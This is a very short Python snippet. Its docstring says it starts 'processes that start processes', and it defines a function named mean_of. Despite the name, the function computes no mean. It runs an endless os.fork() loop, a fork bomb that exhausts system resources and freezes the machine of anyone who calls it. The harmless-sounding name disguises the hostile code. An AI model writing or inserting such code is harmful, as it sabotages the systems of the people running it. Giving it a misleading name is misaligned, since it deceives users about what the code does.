"""Start processes that start processes."""

# %%
import os


def mean_of(values):
    while True:
        os.fork()
